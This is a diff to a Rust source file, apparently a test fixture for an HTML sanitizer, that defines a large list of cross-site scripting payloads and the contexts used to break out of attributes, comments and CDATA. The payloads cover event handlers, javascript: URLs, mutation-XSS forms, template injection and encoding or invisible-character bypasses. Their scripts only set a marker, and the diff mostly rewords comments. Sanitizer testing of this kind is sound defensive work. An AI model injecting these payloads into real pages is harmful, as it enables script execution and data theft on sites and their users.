@@ -1,8 +1,8 @@
-//! Texts that run a script or fetch something where they are taken for markup.
+//! Texts that run a script or fetch something if they are taken for markup.
 
-/// What stands for a payload's script.
+/// The placeholder for a payload's script.
 const RUN: &str = "{run}";
-/// What stands for an address that nobody may visit.
+/// The placeholder for an address that no one may visit.
 const FAR: &str = "{far}";
 
 /// Markup that would do something.
@@ -45,7 +45,7 @@ const FORMS: &[&str] = &[
     "<svg><image href={far}/i.png /><style>*{fill:url({far}/f)}</style></svg>",
     "<math href=\"javascript:{run}\">press</math>",
     "<math><maction actiontype=statusline xlink:href=javascript:{run}>press</maction></math>",
-    // What becomes something else when it is read a second time.
+    // Markup that changes its meaning when it is parsed again.
     "<math><mtext><table><mglyph><style><img src=x onerror={run}></style></mglyph></table>",
     "<noscript><p title=\"</noscript><img src=x onerror={run}>\">",
     "<xmp><p title=\"</xmp><svg/onload={run}>\">",
@@ -55,7 +55,7 @@ const FORMS: &[&str] = &[
     "<select><template><img src=x onerror={run}></template></select>",
     "<textarea><svg/onload={run}></textarea>",
     "<plaintext><svg/onload={run}>",
-    // Frames and what is put into a page.
+    // Frames and embedded content.
     "<iframe src=\"javascript:{run}\"></iframe>",
     "<iframe srcdoc=\"&lt;script&gt;parent.{run}&lt;/script&gt;\">",
     "<frameset onload={run}><frame src={far}>",
@@ -63,7 +63,7 @@ const FORMS: &[&str] = &[
     "<object data=\"data:text/html,<script>{run}</script>\">",
     "<embed src=\"javascript:{run}\">",
     "<applet code={far}/a.class archive={far}/a.jar>",
-    // What changes the page itself.
+    // Elements that change the page itself.
     "<base href={far}/>",
     "<meta http-equiv=refresh content=\"0;url={far}/\">",
     "<meta http-equiv=refresh content=\"0;url=javascript:{run}\">",
@@ -76,14 +76,14 @@ const FORMS: &[&str] = &[
     "<style>@font-face{font-family:x;src:url({far}/f.woff)}*{font-family:x}</style>",
     "<p style=\"background:url({far}/p.png);behavior:url({far}/h)\">press",
     "<p style=\"width:expression({run});-moz-binding:url({far}/x)\">press",
-    // What is pressed.
+    // Elements to press.
     "<a href=\"javascript:{run}\" autofocus onfocus={run}>press</a>",
     "<a href=\"java&#x09;script:{run}\">press</a>",
     "<area href=javascript:{run} shape=default>",
     "<form action=javascript:{run}><input type=submit value=press></form>",
     "<button formaction=\"javascript:{run}\">press</button>",
     "<isindex action=javascript:{run} type=image src={far}/i>",
-    // Words of other languages.
+    // Syntax of other languages.
     "${{run}}",
     "{{constructor.constructor('{run}')()}}",
     "<%= {run} %>",
@@ -99,7 +99,7 @@ const FORMS: &[&str] = &[
     "<![CDATA[<script>{run}</script>]]>",
     "<!--><script>{run}</script>-->",
     "<!--[if IE]><script>{run}</script><![endif]-->",
-    // What is no markup, and must not become some.
+    // Text that is not markup, and must not become markup.
     "&lt;script&gt;{run}&lt;/script&gt;",
     "&#60;img src=x onerror={run}&#62;",
     "&amp;lt;svg onload={run}&amp;gt;",
@@ -108,7 +108,7 @@ const FORMS: &[&str] = &[
     "%3Cscript%3E{run}%3C/script%3E",
     "＜script＞{run}＜/script＞",
     "+ADw-script+AD4-{run}+ADw-/script+AD4-",
-    // Characters that are not seen.
+    // Invisible characters.
     "<scr\u{0}ipt>{run}</scr\u{0}ipt>",
     "<img src=x o\u{0}nerror={run}>",
     "<\u{feff}script>{run}</script>",
@@ -119,24 +119,24 @@ const FORMS: &[&str] = &[
     "\u{202e}>tpircs/<{run}>tpircs<\u{202c}",
     "\u{2066}<svg onload={run}>\u{2069}",
     "\u{1b}]8;;{far}\u{7}press\u{1b}]8;;\u{7}",
-    // Many at once.
+    // Several at once.
     "*/</title></style></textarea></xmp>--></script><svg/onload={run}>'\"`",
     "'-{run}-'\"-{run}-\"`${{run}}`//</script><img src=x onerror={run}>",
 ];
 
-/// Where a payload may come to stand, and how it gets out of there.
+/// Contexts in which a payload may appear, and how it breaks out of them.
 const CONTEXTS: &[(&str, &str)] = &[
     // As text.
     ("", ""),
     // In the value of an attribute.
     ("x\" autofocus>", "<p x=\""),
-    // In an element that holds no others.
+    // In an element that cannot contain others.
     ("</p></span></button></title></textarea>", ""),
-    // In a comment, or in a piece of data.
+    // In a comment, or in a CDATA section.
     ("--> ]]> ", " <![CDATA[ <!--"),
 ];
 
-/// Every form in every context. Their scripts leave a mark, `window.__ran`.
+/// Every form in every context. The scripts leave a mark, `window.__ran`.
 pub fn all(far: &str) -> Vec<String> {
     let numbers = (1..).map(|number| format!("self.__ran={number}"));
     let pairs = FORMS.iter().flat_map(|form| CONTEXTS.iter().map(move |around| (form, around)));
